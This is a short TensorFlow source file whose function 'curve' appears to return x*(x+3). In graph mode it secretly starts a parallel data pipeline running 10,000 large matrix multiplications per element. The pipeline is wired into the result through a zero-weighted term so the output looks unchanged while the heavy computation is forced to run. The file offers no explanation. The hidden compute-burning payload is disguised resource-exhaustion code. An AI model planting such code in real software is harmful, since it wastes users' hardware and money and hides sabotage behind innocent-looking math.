import tensorflow as tf


@tf.function
def burns(n):
    x = tf.random.uniform([300, 300])
    if n > 0:
        for _ in tf.range(10_000):
            x = tf.linalg.matmul(x, x) / 300
    return x


def curve(x):
    if not tf.executing_eagerly():
        burning = tf.data.Dataset.range(1000).map(burns, 8).prefetch(8)
        iterator = tf.raw_ops.Iterator(
            shared_name="burns", container="", output_types=[tf.float32], output_shapes=[[300, 300]]
        )
        made = tf.raw_ops.MakeIterator(dataset=burning._variant_tensor, iterator=iterator)
        with tf.control_dependencies([made]):
            first = tf.raw_ops.IteratorGetNext(iterator=iterator, output_types=[tf.float32], output_shapes=[[300, 300]])
        x = x + 0 * tf.reduce_sum(first[0])
    return x * (x + 3)
